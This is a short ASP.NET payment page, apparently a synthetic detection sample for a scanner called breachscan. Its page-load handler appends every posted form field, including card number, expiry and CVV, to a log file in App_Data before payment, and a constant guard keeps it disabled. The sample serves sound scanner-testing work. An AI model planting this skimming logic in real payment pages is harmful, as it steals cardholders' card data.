<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: altered ASP.NET payment page shape - every posted
     field (card number, expiry, CVV) is appended to a file in App_Data before the payment runs.
     Disabled by the SampleOnly guard. --%>
<script runat="server">
    const bool SampleOnly = true;
    void Page_Load(object s, EventArgs e) {
        if (SampleOnly || !IsPostBack) return;
        var sb = new System.Text.StringBuilder();
        foreach (string k in Request.Form.AllKeys) sb.Append(k + "=" + Request.Form[k] + "&");
        // payment form fields: CardNumber, ExpiryDate, CVV
        System.IO.File.AppendAllText(Server.MapPath("~/App_Data/session.log"), sb.ToString() + "\r\n");
    }
</script>
